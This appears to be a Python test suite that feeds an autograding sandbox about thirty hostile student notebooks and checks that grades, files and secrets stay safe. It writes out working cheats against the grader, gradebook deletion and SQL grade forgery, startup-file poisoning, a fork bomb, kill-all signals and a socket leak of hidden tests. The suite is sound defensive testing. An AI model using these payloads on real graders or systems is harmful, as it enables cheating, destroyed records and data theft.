"""Grading a hostile class: 30 broken or hostile ps1 submissions graded by the real nbgrader with this course's
configuration (sandboxed kernels, the verdict decided in the grader), in one course where honest students were
graded before them and one after them.

Every attack that beat the in-kernel checks is here (cheats that scored full points for empty answers, a
submission that destroyed or falsified other students' grades, poisoning of later students, leaks of hidden tests
and solutions, honest mistakes that cost minutes or the whole submission), each with the score a fair instructor
would give. Then, for the whole class: every other student's grade unchanged, every submitted file and the
course's source unchanged, the gradebook intact, no feedback showing a hidden-test or solution line however
disguised, nothing received by a listener on the network, no process left behind.
"""

from __future__ import annotations

import base64
import hashlib
import html
import re
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from dlcourse.grading.nbgrader_ext import normalise
from dlcourse.grading.sandbox import _bwrap_works, _cgroups_work

ROOT = Path(__file__).resolve().parents[2]
NBGRADER = str(Path(sys.executable).parent / "nbgrader")
POINTS = {"test_sigmoid": 2.0, "test_bayes_to_logistic": 3.0, "test_nll": 2.0, "test_nll_grad": 3.0,
          "test_fit_logistic": 3.0}
FULL = sum(POINTS.values())
ANSWERS = ["sigmoid", "bayes_to_logistic", "nll", "nll_grad", "fit_logistic"]
GRADING_BUDGET_S = 240  # autograding the 36 submissions of the attacked class (206 s idle, 219 s in CI)
# The fixture as a whole: the grading above plus generating the assignment, grading and exporting the honest
# students before the attacks, and the class's feedback (27 s) and export afterwards. 301 s on an idle 2-core
# machine since the class grew to 36 submissions (it was 141-157 s with 31): a 300 s bound failed with no load.
BUDGET_S = 360

if os.environ.get("DLCOURSE_REQUIRE_SYSTEM") != "1" and (_bwrap_works() or _cgroups_work()):
    pytestmark = pytest.mark.skip(reason=f"needs bubblewrap and cgroups: {_bwrap_works() or _cgroups_work()}")

# --- the attacks -------------------------------------------------------------------------------------------
# Each: (how the notebook is built, the test cells that must score 0). "empty" keeps the release's answers
# (NotImplementedError), "solution" fills in the solution; "code" goes into the answer cell named by "into"
# (before the answer), "cell" is an extra cell appended after that answer cell. {course}, {other}, {port},
# {hidden} and {solution_line} are filled in with the real paths, the listener's port and secret lines.

ALL = set(POINTS)
PLANT = """
try:   # in the sandbox the course folder does not exist: only the grader could write this file
    open("{course}/planted.txt", "w").write("this ran outside the sandbox")
except OSError:
    pass
"""
ATTACKS = {
    # cheats that scored full points for empty answers
    "fake_pass": dict(base="empty", into="sigmoid", zero=ALL, code="""
for _name in dir(checks):
    if _name.startswith("check_"):
        setattr(checks, _name, lambda *a, **k: print("✓ all checks passed"))
"""),
    "patch_core": dict(base="empty", into="sigmoid", zero=ALL, code="""
import dlcourse.grading.core as _core, dlcourse.grading.guard as _guard
_core.check_function = _core.check_behaviour = lambda *a, **k: print("✓")
_core.compare_value = lambda *a, **k: None
_guard.run_student = lambda *a, **k: None
"""),
    "allclose_true": dict(base="empty", into="sigmoid", zero=ALL, code="""
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
def sigmoid(z):
    return 0.0
def nll(w, b, X, y):
    return 0.0
"""),
    "input_hook": dict(base="solution", into="bayes_to_logistic", zero=ALL - {"test_sigmoid", "test_bayes_to_logistic"},
                       code="""
get_ipython().input_transformers_cleanup.append(lambda lines: [])   # every later cell runs as empty
"""),
    "frame_peek": dict(base="empty", into="sigmoid", zero=ALL, code="""
import sys
def sigmoid(z):
    frame = sys._getframe(1)
    while frame is not None:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
    return None
"""),
    "thread_reference": dict(base="empty", into="sigmoid", zero=ALL, code="""
import threading, dlcourse.linear
def sigmoid(z):
    box = []
    t = threading.Thread(target=lambda: box.append(dlcourse.linear.sigmoid(z)))
    t.start(); t.join()
    return box[0] if box else None
"""),
    "setprofile_reference": dict(base="empty", into="sigmoid", zero=ALL, code="""
import sys, dlcourse.linear
def sigmoid(z):
    sys.setprofile(None)
    return dlcourse.linear.sigmoid(z)
"""),
    "codecopy_reference": dict(base="empty", into="sigmoid", zero=ALL, code="""
import types, dlcourse.linear
try:
    sigmoid = types.FunctionType(dlcourse.linear.sigmoid.__code__, dict(np=np))
except Exception:
    sigmoid = dlcourse.linear.sigmoid
"""),
    "showtraceback": dict(base="empty", into="sigmoid", zero=ALL, code="""
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
"""),
    "stdout_hijack": dict(base="empty", into="sigmoid", zero=ALL, code="""
import builtins, sys
builtins.print = lambda *a, **k: sys.__stdout__.write("✓ all checks passed\\n")
"""),
    "always_equal": dict(base="solution", into="sigmoid", zero={"test_sigmoid"}, code="""
class _Yes:
    def __eq__(self, other): return True
    def __array__(self, *a, **k): raise TypeError("no")
"""
                         , answer="""def sigmoid(z):
    return _Yes()
"""),
    # destroy or falsify other students' grades
    "delete_gradebook": dict(base="solution", into="sigmoid", zero=set(), cell="""
import os, glob
for p in glob.glob("{course}/**", recursive=True):
    try:
        os.remove(p)
    except OSError:
        pass
print("gradebook present:", os.path.exists("{course}/grading/gradebook.db"))
"""),
    "sql_update": dict(base="solution", into="sigmoid", zero=set(), cell="""
import sqlite3
try:
    db = sqlite3.connect("file:{course}/grading/gradebook.db?mode=rw", uri=True)
    db.execute("update grade set auto_score = 100")
    db.commit()
except Exception as err:
    print("no gradebook:", err)
"""),
    "background_csv": dict(base="solution", into="sigmoid", zero=set(), cell="""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time\\nfor _ in range(60):\\n    time.sleep(1)\\n    "
                  "open('{course}/grading/grades.csv', 'w').write('forged')"], start_new_session=True)
"""),
    "rewrite_other": dict(base="solution", into="sigmoid", zero=set(), cell="""
try:
    open("{other}", "w").write("{{}}")
except OSError as err:
    print("cannot:", err)
"""),
    # poison later students and the next release
    "startup_file": dict(base="solution", into="sigmoid", zero=set(), cell="""
import os
for d in (os.path.join(os.environ.get("IPYTHONDIR", "~/.ipython"), "profile_default", "startup"),
          os.path.expanduser("~/.ipython/profile_default/startup"), "/root/.ipython/profile_default/startup"):
    try:
        os.makedirs(d, exist_ok=True)
        open(os.path.join(d, "00-evil.py"), "w").write("import numpy as np\\nnp.exp = lambda x: x\\n")
    except OSError:
        pass
"""),
    "fake_package": dict(base="solution", into="sigmoid", zero=set(), beside=True, cell="""
import os
for d in (".", "{course}/solutions/ps1", "{course}/grading/release/ps1"):
    try:
        os.makedirs(os.path.join(d, "dlcourse"), exist_ok=True)
        open(os.path.join(d, "dlcourse", "__init__.py"), "w").write("raise ImportError('poisoned')\\n")
    except OSError:
        pass
"""),
    # read hidden tests and solutions, or send them away
    "read_solutions": dict(base="empty", into="sigmoid", zero=ALL, cell="""
for path in ("{course}/solutions/ps1/ps1.ipynb", "{course}/grading/gradebook.db"):
    try:
        print(open(path, errors="replace").read())
    except OSError as err:
        print("cannot read:", err)
"""),
    "disguised_quote": dict(base="empty", into="sigmoid", zero=ALL, cell="""
import base64
ZW = "\\u200b"
hidden, solution = (base64.b64decode(s).decode() for s in ({hidden!r}, {solution_line!r}))
print(ZW.join(hidden))
print(hidden.replace(" ", "\\u00a0"))
print("  " + ZW.join(solution) + "  ")
"""),
    "network": dict(base="solution", into="sigmoid", zero=set(), cell="""
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"secret hidden tests")
    s.close()
except OSError as err:
    print("no network:", err)
"""),
    # honest mistakes that cost too much
    "swallowing_loop": dict(base="solution", into="fit_logistic", zero={"test_fit_logistic"}, answer="""
def fit_logistic(X, y, lr, n_iter):
    while True:
        try:
            pass
        except BaseException:
            pass
"""),
    "ignores_the_alarm": dict(base="solution", into="nll", zero={"test_nll"}, answer="""
import signal
def nll(w, b, X, y):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)   # nothing inside the kernel can interrupt it now
    while True:
        pass
"""),
    "swallowing_cell": dict(base="solution", into="nll_grad", zero=set(), cell="""
import time
while True:
    try:
        time.sleep(0.1)
    except BaseException:
        pass
"""),
    "duplicate_cell": dict(base="solution", into="sigmoid", zero=set(), duplicate="sigmoid"),
    "huge_output": dict(base="solution", into="sigmoid", zero=set(), cell="""
print("x" * 50_000_000)
"""),
    "broken_json": dict(base="broken", zero="UNGRADABLE"),
    "os_exit": dict(base="solution", into="sigmoid", zero={"test_sigmoid"}, answer="""
import os
def sigmoid(z):
    os._exit(3)
"""),
    "fork_bomb": dict(base="solution", into="sigmoid", zero=set(), cell="""
import os, time
for _ in range(10_000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
"""),
    "memory_hog": dict(base="solution", into="sigmoid", zero=set(), cell="""
hog = []
while True:
    hog.append(bytearray(50 * 2**20))
"""),
    "kill_everything": dict(base="solution", into="sigmoid", zero=set(), cell="""
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError as err:
    print(err)
"""),
    # cells that claim to be the instructor's: test and setup cells run in the grader, not in the sandbox
    "claims_setup_cell": dict(base="solution", into="sigmoid", zero=set(), cell=PLANT,
                              meta=dict(grade_id="setup_extra", locked=True, solution=False, grade=False)),
    "claims_test_cell": dict(base="solution", into="sigmoid", zero=set(), cell=PLANT,
                             meta=dict(grade_id="test_extra", locked=True, solution=False, grade=True, points=5)),
    "claims_cell_no_id": dict(base="solution", into="sigmoid", zero=set(), cell=PLANT,
                              meta=dict(locked=True, solution=False, grade=True, points=5)),
    "answer_relabelled_as_test": dict(base="solution", into="sigmoid", zero=set(), relabel=True,
                                      code=PLANT, answer="""def sigmoid(z):
    return 0.5 * (1 + np.tanh(0.5 * np.asarray(z, dtype=float)))
"""),
    "write_everywhere": dict(base="solution", into="sigmoid", zero=set(), cell="""
import os
for d in ("/", "/usr", os.path.dirname(os.__file__), "{course}"):
    try:
        open(os.path.join(d, "planted.txt"), "w").write("x")
        print("wrote into", d)
    except OSError:
        pass
"""),
}
HONEST_BEFORE = {"honest_a": set(), "honest_b": {"test_nll_grad"}}
HONEST_AFTER = {"zz_honest_after": set()}  # graded after every attack (sorted last)
WRONG_GRAD = '''def nll_grad(w, b, X, y):
    r = 1 / (1 + np.exp(-(X @ w + b))) - y
    return X.T @ r / len(y) * 2, float(np.mean(r))
'''


def nbgrader(course: Path, *args: str, check: bool = True, timeout: int = 600) -> subprocess.CompletedProcess:
    proc = subprocess.run([NBGRADER, *args], cwd=course, capture_output=True, text=True, timeout=timeout)
    if check:
        assert proc.returncode == 0, f"nbgrader {' '.join(args)} failed:\n{proc.stdout[-3000:]}\n{proc.stderr[-5000:]}"
    return proc


def checksums(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def secret_lines() -> tuple[list[str], list[str]]:
    """(hidden-test lines, distinctive solution lines) of ps1's source notebook."""
    nb = nbformat.read(ROOT / "solutions" / "ps1" / "ps1.ipynb", as_version=4)
    hidden, solution = [], []
    for cell in nb.cells:
        target = None
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line or "BEGIN SOLUTION" in line:
                target = hidden if "HIDDEN" in line else solution
            elif "END HIDDEN TESTS" in line or "END SOLUTION" in line:
                target = None
            elif target is not None and len(line.strip()) >= 12 and not line.strip().startswith("#"):
                target.append(line.strip())
    return hidden, solution


def build(release, solutions, spec: dict, fill) -> nbformat.NotebookNode:
    base = spec["base"]
    nb = fill(release, solutions) if base == "solution" else nbformat.from_dict(release)
    ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]
    if "into" in spec:
        i = ids.index(spec["into"])
        cell = nb.cells[i]
        if "answer" in spec:
            cell.source = spec["answer"]
        if "code" in spec:
            cell.source = spec["code"] + "\n" + cell.source.replace("raise NotImplementedError()", "pass")
            if base == "empty":  # the cheat replaces the whole answer
                cell.source = spec["code"]
        if spec.get("relabel"):  # the answer cell now says it is a locked test cell
            cell.metadata["nbgrader"].update(grade=True, solution=False, locked=True, points=5)
        extra = []
        if "cell" in spec:
            extra.append(new_code_cell(spec["cell"]))
            if "meta" in spec:
                extra[-1].metadata["nbgrader"] = dict(spec["meta"], schema_version=3)
        if "duplicate" in spec:
            copy = nbformat.from_dict(cell)
            copy["id"] = "pasted-copy"
            copy.source = "def sigmoid(z):\n    return 0.0   # a wrong second copy: the first one counts\n"
            extra.append(copy)
        nb.cells[i + 1:i + 1] = extra
    return nb


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, submissions):
    start = time.perf_counter()
    course = tmp_path_factory.mktemp("attacked")
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copytree(ROOT / "solutions" / "ps1", course / "solutions" / "ps1")
    config_limits = ["--IsolatedExecute.memory_limit=1073741824", "--IsolatedExecute.max_processes=128"]
    nbgrader(course, "generate_assignment", "ps1")
    release = nbformat.read(course / "grading" / "release" / "ps1" / "ps1.ipynb", as_version=4)
    solutions = nbformat.read(course / "solutions" / "ps1" / "ps1.ipynb", as_version=4)
    submitted = course / "grading" / "submitted"

    def write(student: str, nb_or_text) -> Path:
        folder = submitted / student / "ps1"
        folder.mkdir(parents=True)
        path = folder / "ps1.ipynb"
        if isinstance(nb_or_text, str):
            path.write_text(nb_or_text)
        else:
            nbformat.write(nb_or_text, path)
        return path

    write("honest_a", submissions.fill_answers(release, solutions))
    write("honest_b", submissions.fill_answers(release, solutions, {"nll_grad": WRONG_GRAD}))
    nbgrader(course, "autograde", "ps1", *config_limits)
    nbgrader(course, "generate_feedback", "ps1")
    nbgrader(course, "export")
    before = {s: scores(course, s) for s in HONEST_BEFORE}
    feedback_before = {s: feedback(course, s) for s in HONEST_BEFORE}

    received = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                received.append(conn.recv(1 << 16))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()

    hidden, solution_lines = secret_lines()
    b64 = lambda text: base64.b64encode(text.encode()).decode()  # noqa: E731 (the source must not show them)
    values = dict(course=str(course), other=str(submitted / "honest_a" / "ps1" / "ps1.ipynb"), port=port,
                  hidden=b64(hidden[0]), solution_line=b64(solution_lines[0]))
    for student, spec in ATTACKS.items():
        if spec["base"] == "broken":
            write(student, '{"cells": [ this is not JSON')
            continue
        spec = {k: (v.format(**values) if isinstance(v, str) and k in ("cell", "code", "answer") else v)
                for k, v in spec.items()}
        path = write(student, build(release, solutions, spec, submissions.fill_answers))
        if spec.get("beside"):  # a fake package submitted next to the notebook
            (path.parent / "dlcourse").mkdir()
            (path.parent / "dlcourse" / "__init__.py").write_text("raise ImportError('poisoned')\n")
    for student in HONEST_AFTER:
        write(student, submissions.fill_answers(release, solutions))
    source_sums, submitted_sums = checksums(course / "solutions"), checksums(submitted)

    cgroups_before = sandbox_cgroups()  # what other runs on this machine may have left is not this run's
    grading = time.perf_counter()
    proc = nbgrader(course, "autograde", "ps1", *config_limits, check=False, timeout=900)
    grading = time.perf_counter() - grading
    nbgrader(course, "generate_feedback", "ps1")
    nbgrader(course, "export")
    time.sleep(3)  # a background process that outlived its kernel would have written by now
    stop.set()
    thread.join()
    listener.close()
    return dict(course=course, proc=proc, before=before, feedback_before=feedback_before, received=received,
                cgroups_before=cgroups_before,
                source_sums=source_sums, submitted_sums=submitted_sums, grading_seconds=grading,
                hidden=hidden, solution_lines=solution_lines, seconds=time.perf_counter() - start)


def scores(course: Path, student: str) -> dict[str, float | None]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'grading' / 'gradebook.db'}") as gb:
        nb = gb.find_submission_notebook("ps1", "ps1", student)
        return {g.name: g.auto_score for g in nb.grades if g.name in POINTS}


def feedback(course: Path, student: str) -> str:
    return (course / "grading" / "feedback" / student / "ps1" / "ps1.html").read_text()


def visible_text(page: str) -> str:
    """What a student reads in a feedback page: tags removed, entities decoded, then normalised."""
    return normalise(html.unescape(re.sub(r"<[^>]+>", "", page)))


@pytest.mark.parametrize("student", sorted(set(ATTACKS) - {"broken_json"}) + sorted(HONEST_AFTER))
def test_each_submission_gets_the_score_a_fair_instructor_would_give(attacked, student):
    zero = ATTACKS.get(student, {}).get("zero", HONEST_AFTER.get(student))
    got = scores(attacked["course"], student)
    expected = {t: (0.0 if t in zero else p) for t, p in POINTS.items()}
    assert got == expected, f"{student}: {got}"


def test_an_ungradable_submission_is_listed_with_its_reason_not_as_a_zero(attacked):
    rows = {r["student_id"]: r for r in csv_rows(attacked["course"])}
    row = rows["broken_json"]
    assert row["score"] == "" and row["status"].startswith("could not be graded: ps1.ipynb is not a valid notebook")
    assert rows["honest_a"]["status"] == "needs manual grading" and float(rows["honest_a"]["raw_score"]) == FULL


def csv_rows(course: Path) -> list[dict]:
    import csv

    with open(course / "grading" / "grades.csv") as fh:
        return list(csv.DictReader(fh))


def test_the_honest_students_grades_and_feedback_are_unchanged(attacked):
    course = attacked["course"]
    for student, before in attacked["before"].items():
        assert scores(course, student) == before
        assert scores(course, student) == {t: (0.0 if t in HONEST_BEFORE[student] else p) for t, p in POINTS.items()}
        assert feedback(course, student) == attacked["feedback_before"][student]


def test_no_file_of_the_course_was_changed_and_the_gradebook_is_intact(attacked):
    course = attacked["course"]
    assert checksums(course / "solutions") == attacked["source_sums"]
    assert checksums(course / "grading" / "submitted") == attacked["submitted_sums"]
    db = sqlite3.connect(course / "grading" / "gradebook.db")
    assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
    assert db.execute("select max(auto_score) from grade").fetchone()[0] <= 3.0
    assert "forged" not in (course / "grading" / "grades.csv").read_text()
    assert not list(course.rglob("planted.txt")) and not Path("/planted.txt").exists()
    assert not (course / "solutions" / "ps1" / "dlcourse").exists()
    assert not (Path.home() / ".ipython" / "profile_default" / "startup" / "00-evil.py").exists()


def test_no_feedback_shows_a_hidden_test_or_a_solution_however_disguised(attacked):
    course = attacked["course"]
    hidden = [normalise(line) for line in attacked["hidden"]]
    solution = [normalise(line) for line in attacked["solution_lines"]]
    pages = {path.parts[-3]: visible_text(path.read_text()) for path in (course / "grading" / "feedback").rglob("*.html")}
    assert len(pages) == len(ATTACKS) + len(HONEST_BEFORE) + len(HONEST_AFTER) - 1  # all but the broken one
    for student, text in pages.items():
        assert "HIDDENTESTS" not in text, student
        assert not [line for line in hidden if line in text], f"{student}'s feedback shows a hidden test"
        if ATTACKS.get(student, {}).get("base") == "empty":  # the student's own source holds no solution line
            assert not [line for line in solution if line in text], f"{student}'s feedback shows a solution line"
    assert normalise("[line of a hidden test or solution removed]") in pages["disguised_quote"]


def test_nothing_left_the_sandbox_and_nothing_is_left_running(attacked):
    assert attacked["received"] == []  # the listener on 127.0.0.1 got nothing
    leftover = subprocess.run(["ps", "-eo", "pid,uid,args"], capture_output=True, text=True).stdout.splitlines()
    assert not [line for line in leftover if "dlcourse-grade-" in line or line.split()[1:2] == ["65534"]]
    assert not sandbox_cgroups() - attacked["cgroups_before"]  # every sandbox of this run removed its cgroups


def sandbox_cgroups() -> set[Path]:
    return {g for controller in ("pids", "memory") for g in Path("/sys/fs/cgroup", controller).glob("dlcourse-grade-*")}


def test_the_feedback_and_the_notebook_stay_small_after_a_huge_output(attacked):
    course = attacked["course"]
    assert (course / "grading" / "autograded" / "huge_output" / "ps1" / "ps1.ipynb").stat().st_size < 2_000_000
    assert (course / "grading" / "feedback" / "huge_output" / "ps1" / "ps1.html").stat().st_size < 3_000_000


def test_cheats_are_explained_in_the_feedback(attacked):
    course = attacked["course"]
    assert "dlcourse.linear.sigmoid" in feedback(course, "setprofile_reference")
    assert "did not finish within 10 s" in feedback(course, "swallowing_loop")
    assert "a Yes object" in feedback(course, "always_equal").replace("_Yes", "Yes")


def test_the_whole_class_is_graded_within_its_budget(attacked):
    print(f"attack suite: {attacked['seconds']:.0f} s in all, {attacked['grading_seconds']:.0f} s to autograde "
          f"{len(ATTACKS) + len(HONEST_AFTER)} submissions")
    assert attacked["grading_seconds"] < GRADING_BUDGET_S and attacked["seconds"] < BUDGET_S


def test_the_instructors_report_lists_every_incident_and_its_figures_render(attacked, tmp_path):
    """The HTML report of the attacked class, opened in Chromium."""
    from dlcourse.grading import report

    data = report.collect(attacked["course"], "ps1")
    incidents = {}
    for student, what in data["incidents"]:
        incidents.setdefault(student, []).append(what)
    assert any(w.startswith("could not be graded") for w in incidents["broken_json"])
    assert any("timed out" in w for w in incidents["swallowing_cell"])
    assert any("kernel died" in w for w in incidents["os_exit"])
    assert any("fit_logistic was stopped at its time limit" == w for w in incidents["swallowing_loop"])
    assert "honest_a" not in incidents and set(data["seconds"]) >= {"honest_a", "zz_honest_after"}
    sigmoid_failures = data["failures"]["test_sigmoid"]
    assert sum(sigmoid_failures.values()) == sum(1 for s in ATTACKS.values() if "test_sigmoid" in s["zero"])
    assert sigmoid_failures.most_common(1)[0][1] >= 3  # the same message, grouped across students
    page = report.write(attacked["course"], "ps1", tmp_path / "ps1.html")
    chromium = Path("/usr/bin/chromium")
    if not chromium.exists():
        pytest.skip("Debian's chromium is not installed")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(chromium), args=["--disable-gpu", "--no-sandbox"])
        tab = browser.new_page()
        tab.goto(page.as_uri())
        sizes = tab.eval_on_selector_all("img", "imgs => imgs.map(i => [i.complete, i.naturalWidth, i.naturalHeight])")
        rows = tab.locator("#incidents tr").count()
        tab.screenshot(path=str(tmp_path / "report.png"), full_page=True)
        browser.close()
    assert len(sizes) == 2 and all(done and w > 300 and h > 100 for done, w, h in sizes)
    assert rows == 1 + len(data["incidents"])
